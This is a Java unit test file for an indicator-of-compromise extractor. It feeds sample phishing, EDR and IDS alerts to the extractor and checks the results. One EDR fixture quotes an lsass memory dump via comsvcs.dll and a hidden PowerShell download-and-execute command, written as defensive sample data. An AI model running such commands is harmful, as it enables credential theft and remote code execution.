package io.socswarm.analyst;

import static org.assertj.core.api.Assertions.assertThat;

import io.socswarm.model.Investigation.Ioc;
import io.socswarm.model.Investigation.Ioc.Type;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class IocExtractorTest {

    private static Ioc ioc(Type type, String value) {
        return new Ioc(type, value);
    }

    @Test
    void shouldExtractEveryIndicatorOfAPhishingReport() {
        String report = """
                From: "Microsoft 365" <no-reply[at]m1crosoft-support[.]com>
                Reply-To: billing@invoices-secure[.]xyz
                Subject: Action required: invoice INV-2231 overdue
                Received: from mail.m1crosoft-support.com (unknown [185.220.101[.]34]) by mx1.corp.example.com
                User clicked hxxps[:]//login.M1crosoft-Support[.]com/owa/auth?session=Ab12 at 09:14:02.
                Attachment invoice.pdf.html (SHA-256 9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08)
                then cmd.exe ran. Reported by j.doe@corp.example.com
                """;

        assertThat(IocExtractor.extract(report)).containsExactly(
                ioc(Type.email, "no-reply@m1crosoft-support.com"),
                ioc(Type.email, "billing@invoices-secure.xyz"),
                ioc(Type.domain, "mail.m1crosoft-support.com"),
                ioc(Type.ip, "185.220.101.34"),
                ioc(Type.domain, "mx1.corp.example.com"),
                ioc(Type.url, "https://login.m1crosoft-support.com/owa/auth?session=Ab12"),
                ioc(Type.sha256, "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
                ioc(Type.email, "j.doe@corp.example.com"));
    }

    @Test
    void shouldExtractEveryIndicatorOfAnEdrAlert() {
        String alert = """
                2026-03-01T10:15:30.250Z host=WS-042 user=CORP\\jsmith severity=High tactic=CredentialAccess
                Process: C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 \
                C:\\Users\\Public\\lsass.dmp full
                Parent: powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\
                'hxxp://198.51.100[.]23:8080/a.ps1')"
                MD5 of dropped file: 44D88612FEA8A8F36DE82E1278ABB02F  SHA1: 3395856CE81F2B7382DEE72602F798B642F14140
                Network: connection to update-check[.]top (203.0.113.77) port 443, then fe80::1ff:fe23:4567:890a
                Exploits: CVE-2021-44228 (log4shell), cve-2023-23397
                """;

        assertThat(IocExtractor.extract(alert)).containsExactly(
                ioc(Type.url, "http://198.51.100.23:8080/a.ps1"),
                ioc(Type.md5, "44d88612fea8a8f36de82e1278abb02f"),
                ioc(Type.sha1, "3395856ce81f2b7382dee72602f798b642f14140"),
                ioc(Type.domain, "update-check.top"),
                ioc(Type.ip, "203.0.113.77"),
                ioc(Type.ip, "fe80::1ff:fe23:4567:890a"),
                ioc(Type.cve, "CVE-2021-44228"),
                ioc(Type.cve, "CVE-2023-23397"));
    }

    @Test
    void shouldExtractEveryIndicatorOfAnIdsAlert() {
        String alert = "03/01/2026-10:15:30.250123  [**] [1:2024897:3] ET MALWARE Cobalt Strike Beacon Observed [**] "
                + "[Classification: A Network Trojan was detected] [Priority: 1] {TCP} 10.0.0.23:49812 -> "
                + "45.33.32[.]156:443 http.hostname: c2.bad-actor[dot]ru http.uri: /submit.php?id=7 "
                + "dns.query: EVIL-cdn(.)net";

        assertThat(IocExtractor.extract(alert)).containsExactly(
                ioc(Type.ip, "10.0.0.23"),
                ioc(Type.ip, "45.33.32.156"),
                ioc(Type.domain, "c2.bad-actor.ru"),
                ioc(Type.domain, "evil-cdn.net"));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "upgraded to 1.2.3.4.5 last night",
        "bad address 999.1.1.1 in config",
        "also 256.10.10.10 and 10.10.10.256",
        "build v10.0.19041.1 and v1.2.3.4",
        "pi is 3.14.159.26535",
        "Mar  1 10:15:30 bastion sshd[4121]: session opened at 2026-03-01T10:15:30.250Z",
        "files invoice.pdf cmd.exe lsass.dmp backup.zip deploy.sh README.md report.docx a.ps1 x.py",
        "loaded System.Management.Automation.dll and java.lang.String via user.name and host.name",
        "interface 00:1a:2b:3c:4d:5e up; Foo::Bar::baz called; rule 1:2024897:3",
        "order 12345678901234567890123456789012 paid",
        "nothing to see here",
        "evil.com.exe was quarantined",
    })
    void shouldFindNothingInTextsWithoutIndicators(String text) {
        assertThat(IocExtractor.extract(text)).isEmpty();
    }

    @Test
    void shouldRefangTheUsualDefangings() {
        assertThat(IocExtractor.refang("hxxp://a[.]b hXXps[:]//c(.)d e[dot]f g [ . ] h x[at]y.com z[@]w.com "
                + "http[://]k.com fxp://m.net p(dot)q r{.}s"))
                .isEqualTo("http://a.b https://c.d e.f g.h x@y.com z@w.com http://k.com ftp://m.net p.q r.s");
    }

    @Test
    void shouldReportEachIndicatorOnceWhateverItsSpelling() {
        List<Ioc> found = IocExtractor.extract("evil.com EVIL.COM evil[.]com Evil(dot)Com. 10.0.0.5, 10.0.0[.]5 "
                + "CVE-2024-3094 cve-2024-3094");

        assertThat(found).containsExactly(ioc(Type.domain, "evil.com"), ioc(Type.ip, "10.0.0.5"),
                ioc(Type.cve, "CVE-2024-3094"));
    }

    @Test
    void shouldNormaliseIpv6AndReadMappedAddressesAsIpv4() {
        assertThat(IocExtractor.extract("from 2001:0DB8:0000:0000:0000:0000:0000:0001 and ::ffff:10.0.0.5 "
                + "and [2001:db8:0:1::7]:443"))
                .containsExactly(ioc(Type.ip, "2001:db8::1"), ioc(Type.ip, "10.0.0.5"), ioc(Type.ip, "2001:db8:0:1::7"));
    }

    @Test
    void shouldNotReportTheHostOfAUrlOrTheDomainOfAnAddressAgain() {
        List<Ioc> found = IocExtractor.extract("GET http://203.0.113.5/payload.bin and https://drive.example.com/x "
                + "from mallory@mail.example.org");

        assertThat(found).containsExactly(ioc(Type.url, "http://203.0.113.5/payload.bin"),
                ioc(Type.url, "https://drive.example.com/x"), ioc(Type.email, "mallory@mail.example.org"));
    }

    @Test
    void shouldTrimSentencePunctuationButKeepBalancedBracketsOfAUrl() {
        assertThat(IocExtractor.extract("See (https://en.example.org/wiki/Foo_(bar)). Then https://x.example.com/a."))
                .containsExactly(ioc(Type.url, "https://en.example.org/wiki/Foo_(bar)"),
                        ioc(Type.url, "https://x.example.com/a"));
    }

    @Test
    void shouldCountFileExtensionTopLevelDomainsOnlyWithThreeLabels() {
        assertThat(IocExtractor.extract("cdn.evil.zip served backup.zip; dropper.sh came from get.evil.sh"))
                .containsExactly(ioc(Type.domain, "cdn.evil.zip"), ioc(Type.domain, "get.evil.sh"));
    }

    @Test
    void shouldKeepInternalNamesAndUnderscoreLabelsAsDomains() {
        assertThat(IocExtractor.extract("SRV _ldap._tcp.dc.corp.local answered by bastion.corp"))
                .containsExactly(ioc(Type.domain, "_ldap._tcp.dc.corp.local"), ioc(Type.domain, "bastion.corp"));
    }

    @Test
    void shouldTellHashesApartByLengthAndIgnoreLongerHexRuns() {
        String md5 = "d41d8cd98f00b204e9800998ecf8427e";
        String sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
        String sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";

        assertThat(IocExtractor.extract(md5 + " " + sha1 + " " + sha256 + " " + sha256 + "00"))
                .containsExactly(ioc(Type.md5, md5), ioc(Type.sha1, sha1), ioc(Type.sha256, sha256));
    }

    @Test
    void shouldReadNothingFromNullOrBlank() {
        assertThat(IocExtractor.extract(null)).isEmpty();
        assertThat(IocExtractor.extract("  \n")).isEmpty();
    }
}
